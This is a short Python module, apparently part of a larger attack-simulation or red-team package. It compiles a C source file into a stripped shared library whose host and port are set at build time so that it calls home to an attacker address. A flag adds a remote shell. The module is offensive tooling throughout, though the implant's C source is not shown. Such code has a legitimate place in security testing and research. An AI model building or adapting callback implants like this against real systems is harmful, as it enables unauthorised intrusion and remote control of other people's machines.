"""Builds implant.c for one use: bytes of a library that calls home to this address.

    library = build_implant(home, shell=False)
"""

import subprocess
import tempfile
from pathlib import Path

from .attacker import Home

SOURCE = Path(__file__).with_name("implant.c")


def build_implant(home: Home, shell: bool = False) -> bytes:
    with tempfile.TemporaryDirectory(prefix="da-implant-") as directory:
        made = Path(directory) / "implant.so"
        subprocess.run(["cc", "-shared", "-fPIC", "-O1", "-s", f"-DIMPLANT_PORT={home.port}",
                        f'-DIMPLANT_HOST="{home.host}"', *(["-DIMPLANT_SHELL"] if shell else []),
                        "-o", str(made), str(SOURCE)], check=True)
        return made.read_bytes()
